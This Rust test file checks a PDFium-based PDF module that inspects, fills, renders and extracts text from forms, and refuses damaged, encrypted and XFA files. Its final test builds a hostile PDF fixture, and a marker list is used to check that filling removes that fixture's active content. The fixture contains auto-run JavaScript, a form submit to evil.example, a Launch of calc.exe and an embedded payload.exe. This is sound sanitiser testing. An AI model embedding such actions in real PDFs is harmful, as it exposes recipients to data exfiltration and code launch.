//! PDFium through core::pdf: inspecting, filling, rendering and reading text of the seeded
//! form and of the fixtures in tests/fixtures (see its README), and clear refusals.

use std::collections::BTreeMap;
use std::sync::OnceLock;

use hearth_core::pdf::{
    FieldKind, FieldValue, FieldValues, FillPath, PdfEngine, PdfError, PdfInfo, count_scripts, default_library_path, extract_text, fill,
    fill_with_pdfium, fill_with_report, inspect, render_page,
};
use hearth_core::workspace::seed::PERMISSION_FORM_PDF;
use sha2::{Digest, Sha256};

const CHOICES: &[u8] = include_bytes!("../fixtures/choices.pdf");
const PACKED: &[u8] = include_bytes!("../fixtures/choices-objstm.pdf");
const SCRIPTS: &[u8] = include_bytes!("../fixtures/scripts.pdf");
const NEEDS_APPEARANCES: &[u8] = include_bytes!("../fixtures/needs-appearances.pdf");
const XFA: &[u8] = include_bytes!("../fixtures/xfa.pdf");
const ENCRYPTED: &[u8] = include_bytes!("../fixtures/encrypted.pdf");
const OWNER_ENCRYPTED: &[u8] = include_bytes!("../fixtures/owner-encrypted.pdf");
const BENCH_VALUES: &str = include_str!("../../benches/data/permission-form.fill.json");

/// PDFium is bound once per process.
fn engine() -> &'static PdfEngine {
    static ENGINE: OnceLock<PdfEngine> = OnceLock::new();
    ENGINE.get_or_init(|| {
        PdfEngine::load(&default_library_path())
            .unwrap_or_else(|err| panic!("{err} (scripts/test.sh installs libpdfium and sets HEARTH_PDFIUM_LIB)"))
    })
}

fn sha256(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

fn values(pairs: &[(&str, FieldValue)]) -> FieldValues {
    pairs.iter().map(|(k, v)| ((*k).to_owned(), v.clone())).collect()
}

fn text(s: &str) -> FieldValue {
    FieldValue::Text(s.to_owned())
}

/// name → (kind, value, options)
fn by_name(info: &PdfInfo) -> BTreeMap<&str, (FieldKind, Option<&str>, Vec<&str>)> {
    info.fields.iter().map(|f| (f.name.as_str(), (f.kind, f.value.as_deref(), f.options.iter().map(String::as_str).collect()))).collect()
}

#[test]
fn the_seeded_permission_form_has_two_pages_and_six_fields() {
    let info = inspect(engine(), PERMISSION_FORM_PDF).unwrap();
    assert_eq!(info.pages, 2);
    let mut fields: Vec<(&str, FieldKind)> = info.fields.iter().map(|f| (f.name.as_str(), f.kind)).collect();
    fields.sort_by_key(|(name, _)| *name);
    assert_eq!(
        fields,
        [
            ("additional_notes", FieldKind::Text),
            ("emergency_contact", FieldKind::Text),
            ("emergency_phone", FieldKind::Text),
            ("guardian_name", FieldKind::Text),
            ("participant_name", FieldKind::Text),
            ("permission_granted", FieldKind::Checkbox),
        ]
    );
}

#[test]
fn refusals_say_what_is_wrong() {
    assert!(matches!(inspect(engine(), b"GIF89a not a pdf"), Err(PdfError::NotPdf)));
    let mut huge = b"%PDF-1.7\n".to_vec();
    huge.resize(10 * 1024 * 1024 + 1, b' ');
    assert!(matches!(inspect(engine(), &huge), Err(PdfError::TooLarge { .. })));
    let truncated = &PERMISSION_FORM_PDF[..PERMISSION_FORM_PDF.len() / 5];
    let err = inspect(engine(), truncated).unwrap_err();
    assert!(matches!(err, PdfError::Damaged { .. }), "{err:?}");
    assert!(err.to_string().contains("send it again"));
}

#[test]
fn a_missing_library_names_the_path() {
    let err = PdfEngine::load(std::path::Path::new("/nonexistent/libpdfium.so")).unwrap_err();
    assert!(matches!(err, PdfError::LibraryMissing { .. }));
    assert!(err.to_string().contains("/nonexistent/libpdfium.so"), "{err}");
}

#[test]
fn filling_the_permission_form_reads_back_and_leaves_the_original_alone() {
    let before = sha256(PERMISSION_FORM_PDF);
    let wanted: FieldValues = serde_json::from_str(BENCH_VALUES).unwrap();
    assert_eq!(wanted.len(), 6, "the bench values fill every field");

    let filled = fill(engine(), PERMISSION_FORM_PDF, &wanted).unwrap();

    assert_eq!(sha256(PERMISSION_FORM_PDF), before, "the original bytes are untouched");
    assert_ne!(sha256(&filled), before);
    let info = inspect(engine(), &filled).unwrap();
    assert_eq!(info.pages, 2);
    assert_eq!(info.fields.len(), 6);
    for field in &info.fields {
        let expected = match &wanted[&field.name] {
            FieldValue::Text(t) => t.clone(),
            FieldValue::Checked(on) => on.to_string(),
        };
        assert_eq!(field.value, Some(expected), "{}", field.name);
    }
    // The unfilled form reports no text values and an unchecked box.
    let blank = inspect(engine(), PERMISSION_FORM_PDF).unwrap();
    let blank = by_name(&blank);
    assert_eq!(blank["participant_name"].1, None);
    assert_eq!(blank["permission_granted"].1, Some("false"));
}

#[test]
fn radio_combo_and_list_fields_report_options_and_fill() {
    let info = inspect(engine(), CHOICES).unwrap();
    let fields = by_name(&info);
    assert_eq!(fields["city"], (FieldKind::Text, None, vec![]));
    assert_eq!(fields["agree"], (FieldKind::Checkbox, Some("false"), vec![]));
    assert_eq!(fields["size"], (FieldKind::Radio, None, vec!["S", "M", "L"]));
    assert_eq!(fields["country"], (FieldKind::ComboBox, Some("France"), vec!["France", "Germany", "Japan"]));
    assert_eq!(fields["color"], (FieldKind::ListBox, Some("Red"), vec!["Red", "Green", "Blue"]));
    assert_eq!(fields["send"].0, FieldKind::PushButton);
    assert_eq!(fields["signature"].0, FieldKind::Signature);

    let (filled, path) = fill_with_report(
        engine(),
        CHOICES,
        &values(&[
            ("city", text("Lyon")),
            ("agree", FieldValue::Checked(true)),
            ("size", text("M")),
            ("country", text("Japan")),
            ("color", text("Blue")),
        ]),
    )
    .unwrap();
    assert_eq!(path, FillPath::Direct);
    let info = inspect(engine(), &filled).unwrap();
    let fields = by_name(&info);
    assert_eq!(fields["city"].1, Some("Lyon"));
    assert_eq!(fields["agree"].1, Some("true"));
    assert_eq!(fields["size"], (FieldKind::Radio, Some("M"), vec!["S", "M", "L"]));
    assert_eq!(fields["country"].1, Some("Japan"));
    assert_eq!(fields["color"].1, Some("Blue"));

    // A filled file fills again: change the radio, untick the box, empty the text.
    let (refilled, path) =
        fill_with_report(engine(), &filled, &values(&[("size", text("L")), ("agree", FieldValue::Checked(false)), ("city", text(""))]))
            .unwrap();
    assert_eq!(path, FillPath::Direct);
    let info = inspect(engine(), &refilled).unwrap();
    let fields = by_name(&info);
    assert_eq!(fields["size"].1, Some("L"));
    assert_eq!(fields["agree"].1, Some("false"));
    assert_eq!(fields["city"].1, None);
    assert_eq!(fields["country"].1, Some("Japan"), "fields not named keep their values");

    // The same form with object streams and a cross-reference stream reads and fills alike.
    assert_eq!(inspect(engine(), PACKED).unwrap().fields, inspect(engine(), CHOICES).unwrap().fields);
    let (filled, path) = fill_with_report(engine(), PACKED, &values(&[("size", text("S")), ("color", text("Green"))])).unwrap();
    assert_eq!(path, FillPath::Direct, "object streams and a cross-reference stream are read directly");
    let info = inspect(engine(), &filled).unwrap();
    let fields = by_name(&info);
    assert_eq!((fields["size"].1, fields["color"].1), (Some("S"), Some("Green")));
}

#[test]
fn wrong_values_get_specific_errors_that_name_the_field_but_not_the_value() {
    let secret = "SECRET-4711";
    type Expected = fn(&PdfError) -> bool;
    let cases: Vec<(FieldValues, Expected)> = vec![
        (values(&[("agree", text(secret))]), |e| matches!(e, PdfError::WrongKind { name, .. } if name == "agree")),
        (values(&[("city", FieldValue::Checked(true))]), |e| matches!(e, PdfError::WrongKind { name, .. } if name == "city")),
        (values(&[("size", FieldValue::Checked(true))]), |e| matches!(e, PdfError::WrongKind { name, .. } if name == "size")),
        (
            values(&[("nope", text(secret))]),
            |e| matches!(e, PdfError::UnknownField { name, available } if name == "nope" && available.contains("\"city\"")),
        ),
        (
            values(&[("size", text(secret))]),
            |e| matches!(e, PdfError::NotAnOption { name, options } if name == "size" && options == "\"S\", \"M\", \"L\""),
        ),
        (
            values(&[("country", text(secret))]),
            |e| matches!(e, PdfError::NotAnOption { name, options } if name == "country" && options.contains("\"Japan\"")),
        ),
        (values(&[("color", text(secret))]), |e| matches!(e, PdfError::NotAnOption { name, .. } if name == "color")),
        (values(&[("send", text(secret))]), |e| matches!(e, PdfError::NotFillable { name, .. } if name == "send")),
        (values(&[("signature", text(secret))]), |e| matches!(e, PdfError::NotFillable { name, .. } if name == "signature")),
        (
            values(&[("reference", text(secret))]),
            |e| matches!(e, PdfError::NotFillable { name, reason } if name == "reference" && *reason == "read-only"),
        ),
    ];
    for (values, expected) in cases {
        let err = fill(engine(), CHOICES, &values).unwrap_err();
        assert!(expected(&err), "{values:?} gave {err:?}");
        // PDFium's form-fill path refuses the same way, word for word.
        assert_eq!(fill_with_pdfium(engine(), CHOICES, &values).unwrap_err().to_string(), err.to_string());
        let message = err.to_string();
        assert!(!message.contains(secret), "the message leaks the value: {message}");
        assert!(message.contains(values.keys().next().unwrap().as_str()), "the message names the field: {message}");
    }
    // A bad value among good ones changes nothing: the error comes before any edit.
    let err = fill(engine(), CHOICES, &values(&[("city", text("Lyon")), ("zzz", text("x"))])).unwrap_err();
    assert!(matches!(err, PdfError::UnknownField { .. }));
}

#[test]
fn a_value_the_field_cannot_hold_is_refused_not_mangled() {
    // `city` is a one-line field: PDFium drops the line break, so the read-back differs.
    // (The direct path leaves such a value to PDFium, so the refusal is PDFium's.)
    let err = fill(engine(), CHOICES, &values(&[("city", text("SECRET\nsecond line"))])).unwrap_err();
    assert!(matches!(&err, PdfError::ValueNotKept { name } if name == "city"), "{err:?}");
    assert!(!err.to_string().contains("SECRET"), "{err}");
    // A multi-line field keeps its line breaks, and reports them as `\n`.
    let notes = "one\ntwo\r\nthree";
    let filled = fill(engine(), PERMISSION_FORM_PDF, &values(&[("additional_notes", text(notes))])).unwrap();
    let info = inspect(engine(), &filled).unwrap();
    assert_eq!(by_name(&info)["additional_notes"].1, Some("one\ntwo\nthree"));
}

#[test]
fn many_field_names_are_listed_shortly() {
    let err = fill(engine(), PERMISSION_FORM_PDF, &values(&[("nope", text("x"))])).unwrap_err();
    let PdfError::UnknownField { available, .. } = &err else { panic!("{err:?}") };
    assert_eq!(available.matches('"').count(), 12, "all six names: {available}");
    assert!(err.to_string().contains("Use one of those names"));
}

#[test]
fn encrypted_pdfs_are_refused_everywhere() {
    for bytes in [ENCRYPTED, OWNER_ENCRYPTED] {
        assert!(matches!(inspect(engine(), bytes), Err(PdfError::Encrypted)));
        assert!(matches!(fill(engine(), bytes, &FieldValues::new()), Err(PdfError::Encrypted)));
        assert!(matches!(render_page(engine(), bytes, 1, 1.0), Err(PdfError::Encrypted)));
        assert!(matches!(extract_text(engine(), bytes), Err(PdfError::Encrypted)));
    }
    assert!(PdfError::Encrypted.to_string().contains("unprotected copy"));
}

#[test]
fn corrupt_and_truncated_pdfs_are_damaged() {
    let mut corrupt = b"%PDF-1.7\n".to_vec();
    corrupt.extend((0..4000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8));
    for bytes in [&corrupt[..], &CHOICES[..CHOICES.len() / 3], b"%PDF-1.7\n%%EOF\n"] {
        for err in [
            inspect(engine(), bytes).unwrap_err(),
            fill(engine(), bytes, &values(&[("city", text("x"))])).unwrap_err(),
            render_page(engine(), bytes, 1, 1.0).unwrap_err(),
            extract_text(engine(), bytes).unwrap_err(),
        ] {
            assert!(matches!(err, PdfError::Damaged { .. }), "{err:?}");
        }
    }
}

#[test]
fn xfa_forms_are_refused() {
    let err = inspect(engine(), XFA).unwrap_err();
    assert!(matches!(err, PdfError::Xfa), "{err:?}");
    assert!(err.to_string().contains("AcroForm"), "{err}");
    assert!(matches!(fill(engine(), XFA, &values(&[("city", text("x"))])), Err(PdfError::Xfa)));
}

/// Object keys that run code or act on their own, as they appear in an uncompressed PDF
/// (PDFium's saved files keep every dictionary uncompressed).
fn active_keys(pdf: &[u8]) -> Vec<&'static str> {
    ["/JavaScript", "/JS", "/OpenAction", "/AA"]
        .into_iter()
        .filter(|key| pdf.windows(key.len() + 1).any(|w| w.starts_with(key.as_bytes()) && !w[key.len()].is_ascii_alphanumeric()))
        .collect()
}

#[test]
fn filling_removes_scripts_and_automatic_actions() {
    let before = sha256(SCRIPTS);
    // The oracle sees the fixture's scripts: one document script, two field scripts.
    assert_eq!(count_scripts(engine(), SCRIPTS).unwrap(), 3);
    assert_eq!(active_keys(SCRIPTS), ["/JavaScript", "/JS", "/OpenAction", "/AA"]);

    let (filled, path) = fill_with_report(engine(), SCRIPTS, &values(&[("city", text("Lyon")), ("size", text("S"))])).unwrap();
    assert_eq!(path, FillPath::Direct);

    assert_eq!(sha256(SCRIPTS), before);
    assert_eq!(count_scripts(engine(), &filled).unwrap(), 0);
    assert_eq!(active_keys(&filled), Vec::<&str>::new());
    let text = String::from_utf8_lossy(&filled);
    for script in ["app.alert", "document script", "submitForm", "event.value"] {
        assert!(!text.contains(script), "{script} is still in the file");
    }
    let fields = inspect(engine(), &filled).unwrap();
    let fields = by_name(&fields);
    assert_eq!(fields["city"].1, Some("Lyon"));
    assert_eq!(fields["size"].1, Some("S"));
    assert_eq!(fields.len(), 8, "every field is still there");
    // Filling nothing still cleans.
    let (cleaned, path) = fill_with_report(engine(), SCRIPTS, &FieldValues::new()).unwrap();
    assert_eq!(path, FillPath::Direct);
    assert_eq!(count_scripts(engine(), &cleaned).unwrap(), 0);
    assert_eq!(active_keys(&cleaned), Vec::<&str>::new());
}

/// Width and height from a PNG's IHDR chunk, and its decoded RGBA pixels.
fn decode(png_bytes: &[u8]) -> (u32, u32, Vec<u8>) {
    assert!(png_bytes.starts_with(b"\x89PNG\r\n\x1a\n"));
    assert_eq!(&png_bytes[12..16], b"IHDR");
    let width = u32::from_be_bytes(png_bytes[16..20].try_into().unwrap());
    let height = u32::from_be_bytes(png_bytes[20..24].try_into().unwrap());
    let mut reader = png::Decoder::new(std::io::Cursor::new(png_bytes)).read_info().unwrap();
    let mut pixels = vec![0; reader.output_buffer_size().unwrap()];
    let frame = reader.next_frame(&mut pixels).unwrap();
    assert_eq!((frame.color_type, frame.bit_depth), (png::ColorType::Rgba, png::BitDepth::Eight));
    assert_eq!((frame.width, frame.height), (width, height));
    (width, height, pixels)
}

#[test]
fn pages_render_as_png_with_filled_fields_drawn() {
    let blank = render_page(engine(), PERMISSION_FORM_PDF, 1, 1.0).unwrap();
    let (width, height, blank_pixels) = decode(&blank.png);
    assert_eq!((width, height), (blank.width, blank.height));
    assert_eq!((width, height), (595, 842), "A4 at 72 dpi: one pixel per point");

    let wanted: FieldValues = serde_json::from_str(BENCH_VALUES).unwrap();
    let filled = fill(engine(), PERMISSION_FORM_PDF, &wanted).unwrap();
    let drawn = render_page(engine(), &filled, 1, 1.0).unwrap();
    let (_, _, drawn_pixels) = decode(&drawn.png);
    let changed = blank_pixels.chunks_exact(4).zip(drawn_pixels.chunks_exact(4)).filter(|(a, b)| a != b).count();
    assert!(changed > 500, "the filled text is drawn ({changed} pixels changed)");

    let half = render_page(engine(), PERMISSION_FORM_PDF, 2, 0.5).unwrap();
    assert_eq!((half.width, half.height), (298, 421));

    assert!(matches!(render_page(engine(), PERMISSION_FORM_PDF, 3, 1.0), Err(PdfError::PageOutOfRange { page: 3, pages: 2 })));
    assert!(matches!(render_page(engine(), PERMISSION_FORM_PDF, 0, 1.0), Err(PdfError::PageOutOfRange { .. })));
    for scale in [100.0, 0.0, -1.0, f32::NAN, f32::INFINITY] {
        let err = render_page(engine(), PERMISSION_FORM_PDF, 1, scale).unwrap_err();
        assert!(matches!(err, PdfError::ImageTooLarge { .. }), "{scale}: {err:?}");
    }
}

#[test]
fn text_comes_out_page_by_page() {
    let pages = extract_text(engine(), PERMISSION_FORM_PDF).unwrap();
    assert_eq!(pages.len(), 2);
    assert!(pages[0].contains("permission form"), "{:?}", pages[0]);
    assert!(pages[1].contains("Page 2 of 2"), "{:?}", pages[1]);
    let pages = extract_text(engine(), CHOICES).unwrap();
    assert_eq!(pages.len(), 1);
    assert!(pages[0].contains("Hearth choices fixture"), "{:?}", pages[0]);
}

/// Damaged variants of every fixture (cut short, a byte changed) are handled without a
/// panic: each call answers Ok or a PdfError.
#[test]
fn damaged_variants_never_panic() {
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    for original in [CHOICES, PACKED, SCRIPTS, PERMISSION_FORM_PDF] {
        for round in 0..60 {
            let mut bytes = original.to_vec();
            let at = (next() % bytes.len() as u64) as usize;
            if round % 3 == 0 {
                bytes.truncate(at.max(8));
            } else {
                bytes[at.max(8)] = (next() & 0xFF) as u8;
            }
            let _ = inspect(engine(), &bytes);
            if round % 4 == 0 {
                let _ = fill(engine(), &bytes, &FieldValues::new());
                let _ = extract_text(engine(), &bytes);
            }
        }
    }
}

#[test]
fn a_field_without_appearance_gets_one_when_need_appearances_goes() {
    // `city` holds "Paris" but has no appearance; the file asks viewers to make one.
    assert!(NEEDS_APPEARANCES.windows(16).any(|w| w == b"/NeedAppearances"));
    let (filled, path) = fill_with_report(engine(), NEEDS_APPEARANCES, &values(&[("agree", FieldValue::Checked(true))])).unwrap();
    assert_eq!(path, FillPath::Direct, "the direct path draws the appearances viewers were asked to make");
    assert!(!filled.windows(16).any(|w| w == b"/NeedAppearances"));
    assert_eq!(by_name(&inspect(engine(), &filled).unwrap())["city"].1, Some("Paris"));
    // PDFium draws widgets from their appearance streams only: ink inside the city box
    // (x 160–360, y 690–710 in points; rows 82–102 from the top of the 792-point page)
    // means the appearance was made and saved.
    let (width, _, pixels) = decode(&render_page(engine(), &filled, 1, 1.0).unwrap().png);
    let dark = (84..100usize)
        .flat_map(|y| (163..357usize).map(move |x| (y * width as usize + x) * 4))
        .filter(|&i| pixels[i] < 128 && pixels[i + 1] < 128 && pixels[i + 2] < 128)
        .count();
    assert!(dark > 30, "{dark} dark pixels in the city box");
}

/// Where each field of the bench form is: (page, name, /Rect in points).
const BENCH_RECTS: [(u16, &str, [f32; 4]); 6] = [
    (1, "participant_name", [55.5, 639.5, 536.5, 664.5]),
    (1, "guardian_name", [55.5, 559.5, 536.5, 584.5]),
    (1, "emergency_contact", [55.5, 479.5, 536.5, 504.5]),
    (1, "emergency_phone", [55.5, 399.5, 536.5, 424.5]),
    (2, "additional_notes", [55.5, 559.5, 536.5, 760.5]),
    (2, "permission_granted", [55.5, 499.5, 72.5, 516.5]),
];

/// Pixels that differ between two renderings (same size, scale 1.0) inside a widget's
/// /Rect, 2 points in from its edges (the border is drawn the same before and after).
fn changed_in_rect(width: u32, height: u32, before: &[u8], after: &[u8], rect: [f32; 4]) -> usize {
    let (x0, x1) = ((rect[0] + 2.0).ceil() as u32, (rect[2] - 2.0).floor() as u32);
    // PDF y grows upwards from the bottom of the page; pixel rows grow downwards from the top.
    let (y0, y1) = ((height as f32 - rect[3] + 2.0).ceil() as u32, (height as f32 - rect[1] - 2.0).floor() as u32);
    let mut changed = 0;
    for y in y0..y1 {
        for x in x0..x1 {
            let i = ((y * width + x) * 4) as usize;
            if before[i..i + 4] != after[i..i + 4] {
                changed += 1;
            }
        }
    }
    changed
}

#[test]
fn the_bench_form_fills_directly_and_every_value_shows_and_reads_back() {
    let wanted: FieldValues = serde_json::from_str(BENCH_VALUES).unwrap();
    // The values exercise line breaks, accented Latin text and the checkbox.
    assert!(matches!(&wanted["additional_notes"], FieldValue::Text(t) if t.contains('\n')));
    assert!(matches!(&wanted["participant_name"], FieldValue::Text(t) if t.contains('é')));
    assert!(matches!(&wanted["emergency_contact"], FieldValue::Text(t) if t.contains('ë') && t.contains('ü')));
    assert_eq!(wanted["permission_granted"], FieldValue::Checked(true));

    let (filled, path) = fill_with_report(engine(), PERMISSION_FORM_PDF, &wanted).unwrap();
    assert_eq!(path, FillPath::Direct);

    // PDFium (page walk, not only the object reader) reads every value back.
    let info = inspect(engine(), &filled).unwrap();
    let fields = by_name(&info);
    for (name, value) in &wanted {
        let expected = match value {
            FieldValue::Text(t) => t.clone(),
            FieldValue::Checked(on) => on.to_string(),
        };
        assert_eq!(fields[name.as_str()].1, Some(expected.as_str()), "{name}");
    }
    // The appearance shows "Léa Martin" in Helvetica's WinAnsi codes (é = E9).
    let shown = b"<4CE961204D617274696E> Tj";
    assert!(filled.windows(shown.len()).any(|w| w == shown), "participant_name's appearance");

    // Rendered, every field's box changes where the value is drawn.
    for page in [1, 2] {
        let (width, height, before) = decode(&render_page(engine(), PERMISSION_FORM_PDF, page, 1.0).unwrap().png);
        let (_, _, after) = decode(&render_page(engine(), &filled, page, 1.0).unwrap().png);
        for (_, name, rect) in BENCH_RECTS.iter().filter(|(p, _, _)| *p == page) {
            let changed = changed_in_rect(width, height, &before, &after, *rect);
            assert!(changed > 40, "{name}: {changed} pixels changed in its box");
        }
    }
}

#[test]
fn text_its_font_cannot_show_is_filled_by_pdfium_and_reads_back() {
    // Helvetica (WinAnsi) has no glyphs for CJK text: PDFium's form filler takes over.
    let wanted = values(&[("participant_name", text("学生")), ("permission_granted", FieldValue::Checked(true))]);
    let (filled, path) = fill_with_report(engine(), PERMISSION_FORM_PDF, &wanted).unwrap();
    assert_eq!(path, FillPath::PdfiumFormFill);
    let info = inspect(engine(), &filled).unwrap();
    let fields = by_name(&info);
    assert_eq!(fields["participant_name"].1, Some("学生"));
    assert_eq!(fields["permission_granted"].1, Some("true"));
}

#[test]
fn a_filled_form_fills_again_with_the_values_replaced() {
    let wanted: FieldValues = serde_json::from_str(BENCH_VALUES).unwrap();
    let filled = fill(engine(), PERMISSION_FORM_PDF, &wanted).unwrap();
    let again = values(&[
        ("participant_name", text("Noé Durand")),
        ("additional_notes", text("None.")),
        ("permission_granted", FieldValue::Checked(false)),
    ]);
    let (refilled, path) = fill_with_report(engine(), &filled, &again).unwrap();
    assert_eq!(path, FillPath::Direct);
    let info = inspect(engine(), &refilled).unwrap();
    let fields = by_name(&info);
    assert_eq!(fields["participant_name"].1, Some("Noé Durand"));
    assert_eq!(fields["additional_notes"].1, Some("None."));
    assert_eq!(fields["permission_granted"].1, Some("false"));
    assert_eq!(fields["guardian_name"].1, Some("Samuel Martin-Okafor"), "fields not named keep their values");
    // The old appearance is gone with the old value.
    let old = b"<4CE961204D617274696E> Tj";
    assert!(!refilled.windows(old.len()).any(|w| w == old));
    // The unticked box is drawn as before filling.
    let (width, height, blank) = decode(&render_page(engine(), PERMISSION_FORM_PDF, 2, 1.0).unwrap().png);
    let (_, _, unticked) = decode(&render_page(engine(), &refilled, 2, 1.0).unwrap().png);
    assert_eq!(changed_in_rect(width, height, &blank, &unticked, BENCH_RECTS[5].2), 0);
}

/// A PDF of `objects` (numbered from 1, in order) with a classic cross-reference table.
fn raw_pdf(objects: &[&str], trailer: &str) -> Vec<u8> {
    let mut out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
    let mut offsets = Vec::new();
    for (i, body) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n{body}\nendobj\n", i + 1).as_bytes());
    }
    let xref = out.len();
    out.extend_from_slice(format!("xref\n0 {}\n0000000000 65535 f\r\n", objects.len() + 1).as_bytes());
    for offset in offsets {
        out.extend_from_slice(format!("{offset:010} 00000 n\r\n").as_bytes());
    }
    out.extend_from_slice(format!("trailer\n{trailer}\nstartxref\n{xref}\n%%EOF\n").as_bytes());
    out
}

/// The markers of active content that `issue10_a_filled_copy_keeps_no_active_content` looks
/// for, as they appear in `pdf`.
fn active_content(pdf: &[u8]) -> Vec<&'static str> {
    [
        "/Launch",
        "/URI",
        "/SubmitForm",
        "/ResetForm",
        "/JavaScript",
        "/JS",
        "/EmbeddedFile",
        "/FileAttachment",
        "/OpenAction",
        "/AA",
        "calc.exe",
        "evil.example",
        "app.alert",
        "payload",
    ]
    .into_iter()
    .filter(|marker| pdf.windows(marker.len()).any(|w| w == marker.as_bytes()))
    .collect()
}

#[tokio::test]
async fn issue10_a_filled_copy_keeps_no_active_content() {
    let hostile = raw_pdf(
        &[
            // 1: the catalog, with a script run on opening, document scripts and attachments.
            "<</Type/Catalog/Pages 2 0 R/OpenAction 10 0 R/Names<</JavaScript 11 0 R/EmbeddedFiles 12 0 R>>\
             /AcroForm<</Fields[6 0 R]/DR<</Font<</Helv 5 0 R>>>>/DA(/Helv 0 Tf 0 g)>>>>",
            "<</Type/Pages/Kids[3 0 R 4 0 R]/Count 2>>",
            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Resources<<>>/Annots[6 0 R 7 0 R 8 0 R 9 0 R 15 0 R]>>",
            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Resources<<>>/AA<</O<</S/ResetForm>>>>>>",
            "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>",
            // 6: a text field that submits the form when clicked (and a page that resets it when shown).
            "<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/Rect[72 700 300 720]/P 3 0 R/F 4/DA(/Helv 12 Tf 0 g)\
             /A<</S/SubmitForm/F<</FS/URL/F(https://evil.example/submit)>>/Flags 4>>>>",
            // 7: internal navigation, kept.
            "<</Type/Annot/Subtype/Link/Rect[72 600 200 620]/Border[0 0 0]/A<</S/GoTo/D[4 0 R/Fit]>>>>",
            "<</Type/Annot/Subtype/Link/Rect[72 560 200 580]/Border[0 0 0]/A<</S/URI/URI(https://evil.example/)>>>>",
            "<</Type/Annot/Subtype/Link/Rect[72 520 200 540]/Border[0 0 0]/A<</S/Launch/F(calc.exe)>>>>",
            "<</S/JavaScript/JS(app.alert\\(1\\))>>",
            "<</Names[(doc) 16 0 R]>>",
            "<</Names[(payload.exe) 13 0 R]>>",
            "<</Type/Filespec/F(payload.exe)/UF(payload.exe)/EF<</F 14 0 R>>>>",
            "<</Type/EmbeddedFile/Length 7>>stream\npayload\nendstream",
            "<</Type/Annot/Subtype/FileAttachment/Rect[400 700 420 720]/FS 13 0 R/Contents(attached)>>",
            "<</S/JavaScript/JS(app.alert\\(2\\))>>",
        ],
        "<</Size 17/Root 1 0 R>>",
    );
    // The fixture carries every marker looked for.
    assert_eq!(active_content(&hostile).len(), 14, "{:?}", active_content(&hostile));

    // Filled through Hearth, as the tools fill.
    let t = super::support::open().await;
    let files = t.hearth.files();
    let original = files.import("hostile-form", hostile.clone(), "hostile.pdf", "att-hostile").await.unwrap();
    let copy = files.fill(&original.id, values(&[("name", text("Ada Lovelace"))]), "hostile-form-filled").await.unwrap();
    let filled = std::fs::read(&copy.path).unwrap();
    assert_eq!(std::fs::read(&original.path).unwrap(), hostile, "the original is untouched");

    // That was the direct path; PDFium's form filler (the fallback) cleans the same way.
    let (_, path) = fill_with_report(engine(), &hostile, &values(&[("name", text("Ada Lovelace"))])).unwrap();
    assert_eq!(path, FillPath::Direct);
    let by_pdfium = fill_with_pdfium(engine(), &hostile, &values(&[("name", text("Ada Lovelace"))])).unwrap();
    for copy in [&filled, &by_pdfium] {
        assert_eq!(active_content(copy), Vec::<&str>::new());
        assert_eq!(count_scripts(engine(), copy).unwrap(), 0);
        // The GoTo link stays: one GoTo action, on the first page's link to the second.
        let gotos = copy.windows(5).filter(|w| w == b"/GoTo").count();
        assert_eq!(gotos, 1, "{}", String::from_utf8_lossy(copy));
        let info = inspect(engine(), copy).unwrap();
        assert_eq!(info.pages, 2);
        assert_eq!(by_name(&info)["name"].1, Some("Ada Lovelace"));
    }
}
